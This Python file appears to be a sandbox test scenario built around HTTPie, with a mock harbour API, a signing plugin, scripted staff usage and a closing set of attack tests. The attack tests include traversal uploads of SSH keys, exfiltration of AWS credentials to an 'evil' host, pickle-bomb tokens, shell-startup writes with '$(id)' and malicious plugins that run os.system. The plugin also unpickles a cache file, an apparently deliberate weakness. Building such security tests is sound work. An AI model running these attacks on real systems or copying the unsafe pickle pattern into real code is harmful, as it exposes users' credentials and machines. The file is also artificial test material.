# SPDX-License-Identifier: Apache-2.0
"""HTTPie, as a harbour's staff and their scripts talk to their own API."""
import json
import os
import pickle
import re
import shlex
import time
import urllib.parse

from attackers import Bomb
import stage

CONFIG = {"default_options": ["--pretty=format", "--timeout=10"],
          "disable_update_warnings": True}
PHOTO = stage.png(24)
MANIFEST = b"%PDF-1.4 " + b"crates and barrels " * 120
TIDES = "hour,metres\n06:10,4.2\n12:25,0.9\n"
NOTICES = {  # (type, text)
    "notice.html": ("text/html", "<html><body><p>Fog</p></body></html>"),
    "notice.xml": ("application/xml",
                   "<?xml version='1.0'?><n><p>Fog</p></n>"),
    "notice.yaml": ("application/x-yaml", "notice: Fog\nuntil: 12\n")}

PLUGIN = {"__init__.py": '''"""Signed requests and readable tables."""
import hmac
import os
import pathlib
import pickle
import time

from httpie.plugins import AuthPlugin, FormatterPlugin
from requests.auth import AuthBase

HOUR = 3600


def token(user, key):
    home = pathlib.Path(os.environ["HARBOUR_HOME"])
    cache = home / "cache" / f"{user}.token"
    try:
        with open(cache, "rb") as file:
            made, text = pickle.load(file)
        if made > time.time() - HOUR:
            return text
    except FileNotFoundError:
        pass
    secret = (home / "keys" / f"{key}.key").read_bytes()
    text = hmac.new(secret, b"%d" % time.time(), "sha256").hexdigest()
    with open(cache, "wb") as file:
        pickle.dump((time.time(), text), file)
    return text


class Signed(AuthBase):
    def __init__(self, user, key):
        self.user = user
        self.key = key

    def __call__(self, request):
        made = token(self.user, self.key)
        request.headers["X-Harbour"] = f"{self.user}:{made}"
        return request


class Signature(AuthPlugin):
    name = "Harbour signature"
    auth_type = "harbour"
    auth_parse = False

    def get_auth(self, username=None, password=None):
        return Signed(*self.raw_auth.split(":"))


class Table(FormatterPlugin):
    def format_body(self, content, mime):
        if mime != "text/csv":
            return content
        return "\\n".join(" | ".join(cell.ljust(8) for cell in line.split(","))
                         for line in content.splitlines())
'''}
PLUGIN_NEW = {
    "__init__.py": PLUGIN["__init__.py"].split("class Table")[0].replace(
        ", FormatterPlugin", "") + "from httpie_harbour.table import Table\n",
    "table.py": '''import json
import pkgutil

from httpie.plugins import FormatterPlugin


class Table(FormatterPlugin):
    def format_body(self, content, mime):
        if mime != "text/csv":
            return content
        units = json.loads(pkgutil.get_data("httpie_harbour", "units.json"))
        for name, unit in units.items():
            content = content.replace(name, unit)
        return "\\n".join(" | ".join(cell.ljust(9) for cell in line.split(","))
                         for line in content.splitlines())
''',
    "units.json": '{"metres": "m"}\n'}
ENTRY = ("[httpie.plugins.auth.v1]\nharbour = httpie_harbour:Signature\n"
         "[httpie.plugins.formatter.v1]\nharbour = httpie_harbour:Table\n")
EVIL = '''
from httpie.plugins import FormatterPlugin


class Plugin(FormatterPlugin):
    pass
'''


class Desk(stage.Answer):
    """The harbour's API."""

    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.requests.append((self.command, self.path, body,
                                     dict(self.headers.items())))
        path = urllib.parse.unquote(self.path.partition("?")[0]).strip("/")
        status, headers, answer = self.answer(*path.partition("/")[::2], body)
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_POST = do_PUT = do_PATCH = do_DELETE = do_GET

    def answer(self, what, rest, body):
        """(status, headers, body)"""
        special = getattr(self, "answer_" + what, None)
        if special:
            return special(rest, body)
        if what in NOTICES:
            return (200, {"Content-Type": NOTICES[what][0]},
                    NOTICES[what][1].encode())
        if what == "tides.csv":
            return 200, {"Content-Type": "text/csv"}, TIDES.encode()
        if what in ("berths", "report", "ships", "log"):
            return self.in_json({"what": what, "for": rest,
                                 "got": len(body)})
        return self.in_json({"error": "no such thing"}, 404)

    @staticmethod
    def in_json(value, status=200, **headers):
        return (status, {"Content-Type": "application/json", **headers},
                json.dumps(value).encode())

    def answer_login(self, _, body):
        user = json.loads(body)["user"]
        return self.in_json({"hello": user}, **{
            "Set-Cookie": f"watch={len(user)}-{time.time_ns()}; Path=/"})

    def answer_me(self, *_):
        given = (self.headers.get("Authorization")
                 or self.headers.get("X-Harbour") or "")
        if given:
            return self.in_json({"scheme": given.split()[0]})
        return self.in_json({}, 401, **{
            "WWW-Authenticate": 'Digest realm="quay", nonce="n7", qop="auth"'})

    def answer_ships(self, rest, body):
        number, _, more = rest.partition("/")
        if number.isdigit() and int(number) >= 900:
            return self.in_json({"error": "no such ship"}, 404)
        if self.command == "DELETE":
            return 204, {}, b""
        return self.in_json(
            {"ship": number or "new", "what": more, "got": len(body)},
            201 if self.command == "POST" else 200)

    def answer_latest(self, *_):
        return 302, {"Location": "/ships/7"}, b""

    def answer_loop(self, *_):
        return 302, {"Location": "/loop"}, b""

    def answer_slow(self, *_):
        time.sleep(2)
        return self.in_json({})

    def answer_files(self, name, _):
        headers = {"Content-Type": "application/pdf", "Content-Disposition":
                   f'attachment; filename="{os.path.basename(name)}"'}
        start = re.match(r"bytes=(\d+)-", self.headers.get("Range") or "")
        if not start:
            return 200, headers, MANIFEST
        first, end = int(start[1]), len(MANIFEST)
        return 206, {**headers, "Content-Range":
                     f"bytes {first}-{end - 1}/{end}"}, MANIFEST[first:]


class Api(stage.Site):
    def __init__(self, port):
        super().__init__(port)
        self.RequestHandlerClass = Desk


class HttpieLighthouse(stage.Program):
    """A harbour's staff and scripts before their JSON API (HTTPie)."""
    packages = ["httpie"]
    user = ""

    def arrange(self):
        for name in ("keys", "cache", "reports", "weather", "sessions"):
            (self.srv / name).mkdir()
        stage.write(self.srv / "api/secret.json",
                    json.dumps({"signing": stage.SECRET}), 0o600)
        stage.write(self.home / ".netrc",
                    "machine localhost login night password dogwatch\n", 0o600)
        self.configure(self.home / ".config/httpie")
        self.install("httpie_harbour", "1.0.0", PLUGIN, ENTRY)
        for user in ("anna", "ben", "carla"):
            self.desk(user)
            stage.write(self.srv / f"keys/{user}.key", user * 5, 0o600)

    def arrange_benign(self):
        self.install("httpie_harbour", "1.1.0", PLUGIN_NEW, ENTRY)

    def start(self):
        self.sites["api"] = Api(self.port("api"))
        self.site("weather").page("*", "wind 4, sea 2\n",
                                  Content_Type="text/plain")

    def configure(self, folder):
        stage.write(folder / "config.json", json.dumps(CONFIG))

    def desk(self, user):
        """A place for one of the staff, where everything of hers is."""
        place = self.srv / "desks" / user
        if not place.exists():
            self.configure(place / "httpie")
            for name in ("in", "out", "visits"):
                (place / name).mkdir()
        return place

    def environment(self):
        more = {"HARBOUR_HOME": str(self.srv), "TERM": "xterm-256color"}
        if self.user:  # else ~/.config
            more["HTTPIE_CONFIG_DIR"] = f"{self.srv}/desks/{self.user}/httpie"
        return {**super().environment(), **more}

    # ---------------------------------------------------------------- commands
    def url(self, path, **query):
        url = f"http://127.0.0.1:{self.port('api')}/{urllib.parse.quote(path)}"
        return url + ("?" + urllib.parse.urlencode(query) if query else "")

    def http(self, user, *words, text="", folder=""):
        """In a script of user's; without a user, of the night's."""
        self.user = user
        place = self.desk(user) if user else self.srv
        words = ("--ignore-stdin", *words) if not text else words
        return self.run(self.python, "/usr/bin/http", *words,
                        cwd=place / folder, text=text)

    def types(self, user, *words, folder=""):
        """user at a terminal."""
        self.user = user
        line = shlex.join(map(str, [*self.wrapper, self.python,
                                    "/usr/bin/http", *words]))
        return self.run("script", "-qec", line,
                        self.place.parent / "terminal.log",
                        cwd=self.desk(user) / folder, wrapped=False)

    def expect_http(self, user, *words, status=0, found="", made=(), **more):
        self.expect_run((user, *words), self.http(user, *words, **more),
                        status, found, made)

    def expect_typed(self, user, *words, status=0, found="", made=(), **more):
        self.expect_run((user, "types", *words),
                        self.types(user, *words, **more), status, found, made)

    # ------------------------------------------------------------ ordinary use
    def watch(self, user, ship, number, date, photos, style, notice,
              session="duty", key=""):
        """What one of the staff does with a ship in a day. key: whose key
        signs; hers unless said."""
        place, here = self.desk(user), f"desks/{user}"
        for photo in photos:
            stage.write(place / "out" / photo, PHOTO)
        stage.write(place / f"out/notes/{date}.txt", f"{ship}: all well\n")
        stage.write(place / f"out/cargo-{number}.json", '{"crates": 12}')
        (place / "in" / date).mkdir(parents=True)
        keep = f"--session={session}"

        def script(*words, **more):
            self.expect_http(user, *words, **more)
        script(keep, "POST", self.url("login"), f"user={user}",
               f"password={user[::-1]}", found=f'"hello": "{user}"')
        script(keep, self.url("berths"), "harbour==outer",
               f"date=={date}", found="berths")
        script(keep, "POST", self.url("ships"), f"name={ship}",
               "length:=42.5", 'holds:=["fore", "aft"]', found="new")
        script(keep, "PUT", self.url(f"ships/{number}"), "berth=A3",
               f"X-Watch:{user}", found=f'"{number}"')
        script(keep, "PATCH", self.url(f"ships/{number}"),
               f"note=@out/notes/{date}.txt",
               f"cargo:=@out/cargo-{number}.json", found=f'"{number}"')
        for photo in photos:
            script(keep, "--form", "POST",
                   self.url(f"ships/{number}/photos"), f"title={ship}",
                   f"photo@out/{photo}", found="photos")
        script("--session-read-only", session, "--download", "--output",
               f"in/{date}/manifest-{number}.pdf",
               self.url(f"files/{number}/manifest.pdf"),
               made=[f"{here}/in/{date}/manifest-{number}.pdf"])
        script("--session-read-only", session, "-o", f"in/{date}/{ship}.json",
               self.url(f"ships/{number}"),
               made=[f"{here}/in/{date}/{ship}.json"])
        script("-A", "harbour", "-a", f"{user}:{key or user}", self.url("me"),
               found="scheme")
        script("-a", f"{user}:{user[::-1]}", self.url("me"), found="Basic")
        script("--session", f"./visits/{number}.json", "POST",
               self.url(f"ships/{number}/visits"), f"guest={user}",
               f"X-Visit:{date}", made=[f"{here}/visits/{number}.json"])
        script("--offline", "POST", self.url("ships"), f"name={ship}",
               found="POST /ships HTTP/1.1")
        self.expect_typed(user, keep, "--style", style,
                          f":{self.port('api')}/ships/{number}", found="200")
        self.expect_typed(user, "--download",
                          self.url(f"files/plan-{number}.pdf"),
                          folder=f"in/{date}",
                          made=[f"{here}/in/{date}/plan-{number}.pdf"])
        self.expect_typed(user, "-b", self.url(notice), found="Fog")
        script(keep, "DELETE", self.url(f"ships/{number}"))

    def night(self, date, number, part):
        """Scripts that run without anybody."""
        weather = self.site("weather").url
        stage.write(self.srv / f"weather/sea-{date}.pdf", MANIFEST[:part])

        def script(*words, **more):
            self.expect_http("", *words, **more)
        script("--download", "-o", f"weather/{date}.txt",
               f"{weather}/forecast/{date}", made=[f"weather/{date}.txt"])
        script("--download", "--continue", "-o", f"weather/sea-{date}.pdf",
               self.url("files/sea.pdf"))
        self.expect("resumed", MANIFEST == (
            self.srv / f"weather/sea-{date}.pdf").read_bytes())
        script("--quiet", "--check-status", "-o", f"reports/{date}.json",
               self.url("report", date=date), made=[f"reports/{date}.json"])
        script("POST", self.url(f"log/{date}"), text=f'{{"day": "{date}"}}',
               found="got")
        script("--raw", f"night of {date}", "PUT", self.url(f"log/{number}"),
               found="got")
        script("--form", "POST", self.url("log"), f"day={date}", "kind=round",
               found="got")
        script(f":{self.port('api')}/me", found="Basic")
        script("-A", "digest", "-a", "night:dogwatch", self.url("me"),
               found="Digest")
        script("-A", "bearer", "-a", f"t{number}", self.url("me"),
               found="Bearer")
        script("--session=night", "POST", self.url("login"), "user=night",
               "password=dogwatch", found="hello")
        script("--follow", self.url("latest"), found='"7"')
        script("--print=HB", "POST", self.url("log"), f"n:={number}",
               found="Host:")
        script("--verbose", self.url("berths"), found="200 OK")
        script("--stream", self.url("tides.csv"), found=" | ")
        script("--check-status", self.url(f"ships/{900 + number}"), status=4,
               found="404")

    def train(self, day):
        self.night(f"2026-01-0{day}", 40 + day, 100 * day)
        for who, ship, number, photos, style, notice in (
                (("anna", "Albatross", 12, ["bow.jpg", "stern 1.png"],
                  "monokai", "notice.html"),
                 ("ben", "Sea Star", 31, ["mast.v2.jpeg"], "fruity",
                  "notice.xml")),
                (("ben", "Curlew", 17, ["keel.png", "hold-4.jpg"], "monokai",
                  "notice.xml"),
                 ("carla", "Nordwind II", 208, ["deck/rail.jpg"], "vs",
                  "notice.html")),
                (("carla", "Gannet", 9, ["chain.jpeg"], "vs", "notice.xml"),
                 ("anna", "Tern", 55, ["lamp 2.png", "deck/bell.gif"],
                  "fruity", "notice.html")))[day - 1]:
            self.watch(who, ship, number, f"2026-01-0{day}", photos, style,
                       notice, "duty" if number % 2 else f"watch-{day}")

    def benign(self):
        # A new key is somebody's to grant: new people sign with a known one.
        self.night("2031-12-31", 88, 1500)
        self.watch("Hans Peter", "Große Möwe", 412, "2027-11-21",
                   ["a b (1).heic", "2027/11/21/hull.tiff"], "vim",
                   "notice.html", "spring.tide_2", key="anna")
        self.watch("o.brien", "S.S. O'Hara", 7, "2028-02-29",
                   ["x", "photo.2028.02.29.webp", "bow.jpg"], "monokai",
                   "notice.yaml", key="carla")
        self.watch("anna", "Albatross", 13, "2026-01-04", ["bow.jpg"],
                   "fruity", "notice.xml")
        anna = self.desk("anna")
        stage.write(anna / "out/large film.mp4", PHOTO * 9000)
        self.expect_http("anna", "--form", "POST", self.url("ships/13/photos"),
                         "photo@out/large film.mp4;type=video/mp4",
                         found="photos")
        for suffix in ("", "-1", "-2"):  # the same name thrice
            self.expect_typed(
                "anna", "--download", self.url("files/Plan B 2.1.tar.gz"),
                folder="in", made=[f"desks/anna/in/Plan B 2.1.tar.gz{suffix}"])
        (anna / "in/2026/11/21").mkdir(parents=True)
        self.expect_http("anna", "-o", "in/2026/11/21/berths & moorings.csv",
                         self.url("tides.csv"))
        self.expect_http("anna", "--headers", self.url("berths"),
                         found="Content-Length")
        self.expect_http("anna", "--meta", self.url("berths"),
                         found="Elapsed time")
        self.expect_http("anna", "--compress", "POST", self.url("log"),
                         "text=" + "fog " * 99, found="got")
        self.go_wrong()

    def go_wrong(self):
        """What somebody does wrong or finds broken."""
        self.expect_http("ben", "--form", "POST", self.url("ships/1/photos"),
                         "photo@out/none.jpg", status=1, found="none.jpg")
        self.expect_http("ben", "POST", self.url("ships"), "length:=4x",
                         status=1, found="length:=4x")
        self.expect_http("ben", "--no-such-option", self.url("ships"),
                         status=1, found="unrecognized")
        self.expect_http("ben", "-o", "in/none/x.json", self.url("ships"),
                         status=1, found="No such file")
        self.expect_http("ben", "--session=a b", self.url("ships"), status=1,
                         found="invalid characters")
        self.expect_http("ben", "--timeout=0.5", self.url("slow"), status=2,
                         found="timed out")
        self.expect_http("ben", "--follow", self.url("loop"), status=6,
                         found="Too many redirects")
        self.expect_http("ben", "--check-status", self.url("nothing"),
                         status=4)
        stage.write(self.desk("ben") / "visits/4.json", "{")
        self.expect_http("ben", "--session=./visits/4.json",
                         self.url("ships/4"), status=1, found="invalid")
        api = self.sites.pop("api")
        api.shutdown()
        api.server_close()
        self.expect_http("ben", self.url("berths"), status=1,
                         found="Connection refused")
        self.sites["api"] = Api(self.port("api"))
        self.expect_http("ben", self.url("berths"), found="berths")

    def health(self):
        self.expect_http("ben", "--session=duty", "POST", self.url("login"),
                         "user=ben", "password=neb", found="hello")
        self.expect_http("ben", "-A", "harbour", "-a", "ben:ben",
                         self.url("me"), found="scheme")

    # ----------------------------------------------------------------- attacks
    def tells(self, *words):
        """A script of anna's with what somebody sent; whether the API got
        what is not its business."""
        self.http("anna", *words)
        return self.sites["api"].heard(stage.SECRET)

    def plant(self, code):
        """A plugin in anna's configuration."""
        place = (self.desk("anna") / "httpie/plugins/lib/python3.11"
                 / "site-packages")
        stage.write(place / "evil.py", code + EVIL)
        stage.write(place / "evil-1.0.dist-info/METADATA",
                    "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        stage.write(place / "evil-1.0.dist-info/entry_points.txt",
                    "[httpie.plugins.formatter.v1]\nevil = evil:Plugin\n")
        return self.http("anna", self.url("berths"))

    def leaves_token(self, *call):
        stage.write(self.srv / "cache/anna.token", pickle.dumps(Bomb(*call)))
        return self.http("anna", "-A", "harbour", "-a", "anna:anna",
                         self.url("me"))

    @stage.attack("traversal")
    def photo_is_a_private_key(self):
        return self.tells("--form", "POST", self.url("ships/12/photos"),
                          "photo@out/../../../../home/.ssh/id_rsa")

    @stage.attack("secret disclosure")
    def photo_is_the_signing_key(self):
        return self.tells("--form", "POST", self.url("ships/12/photos"),
                          f"photo@{self.srv}/api/secret.json")

    @stage.attack("argument injection")
    def note_is_a_file_of_the_payroll(self):
        note = f"@{self.place}/payroll/2026.csv"
        return self.tells("PATCH", self.url("ships/12"), f"note={note}")

    @stage.attack("argument injection")
    def ship_is_an_option(self):
        self.http("anna", self.url("ships/12"),
                  f"--output={self.site_packages}/x.pth")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("exfiltration")
    def watch_is_sent_to_a_proxy(self):
        evil = self.site("evil")
        evil.page("*", "{}")
        self.http("anna", "-A", "bearer", "-a", stage.SECRET, self.url("me"),
                  f"--proxy=http:{evil.url}")
        return evil.heard(stage.SECRET)

    @stage.attack("exfiltration")
    def log_is_kept_elsewhere(self):
        evil = self.site("evil")
        evil.page("*", "{}")
        self.http("anna", "POST", evil.url + "/log",
                  f"day=@{self.home}/.aws/credentials")
        return evil.heard(stage.SECRET)

    @stage.attack("SSRF")
    def forecast_is_an_internal_service(self):
        return self.fetches_inside(lambda url: self.http("", url))

    @stage.attack("SSRF")
    def forecast_is_redirected_inside(self):
        return self.is_redirected_inside(
            "weather", lambda url: self.http("", "--follow", url))

    @stage.attack("write to start-up file")
    def visit_is_kept_where_the_shell_starts(self):
        self.http("anna", "--session=./visits/../../../../home/.bash_login",
                  self.url("ships/12"), "X-Visit:$(id)")
        return (self.home / ".bash_login").exists()

    @stage.attack("write to code")
    def plan_replaces_the_plugin(self):
        target = self.site_packages / "httpie_harbour/__init__.py"
        self.http("anna", "--download", "-o", target,
                  self.url("files/plan.pdf"))
        return b"%PDF" in target.read_bytes()

    @stage.attack("symlink swap")
    def report_became_a_link(self):
        (self.srv / "reports/2026-01-02.json").symlink_to(
            self.home / ".profile")
        self.http("", "-o", "reports/2026-01-02.json", self.url("report"))
        return "report" in (self.home / ".profile").read_text()

    @stage.attack("symlink swap")
    def photo_became_a_link(self):
        (self.desk("anna") / "out/bow.jpg").symlink_to(
            self.place / "payroll/2026.csv")
        return self.tells("--form", "POST", self.url("ships/12/photos"),
                          "title=Albatross", "photo@out/bow.jpg")

    @stage.attack("unsafe pickle")
    def token_runs_a_command(self):
        return self.runs_line(lambda line: self.leaves_token(os.system, line))

    @stage.attack("reverse shell")
    def token_calls_home(self):
        return self.calls_home(lambda code: self.leaves_token(exec, code))

    @stage.attack("malicious plugin")
    def plugin_of_the_configuration_runs_a_command(self):
        return self.runs_line(lambda line: self.plant(
            f"import os\nos.system({line!r})\n"))

    @stage.attack("ctypes")
    def plugin_of_the_configuration_calls_libc(self):
        return self.runs_libc(lambda code: self.plant(code + "\n"))

    @stage.attack("malicious dependency")
    def harbour_plugin_steals_credentials(self):
        return self.dependency_steals(
            "httpie_harbour", "1.0.1", PLUGIN,
            lambda: self.http("anna", self.url("berths")), entry_points=ENTRY)

    @stage.attack("fork+exec")
    def plugin_of_the_configuration_forks(self):
        return self.forks(self.plant)
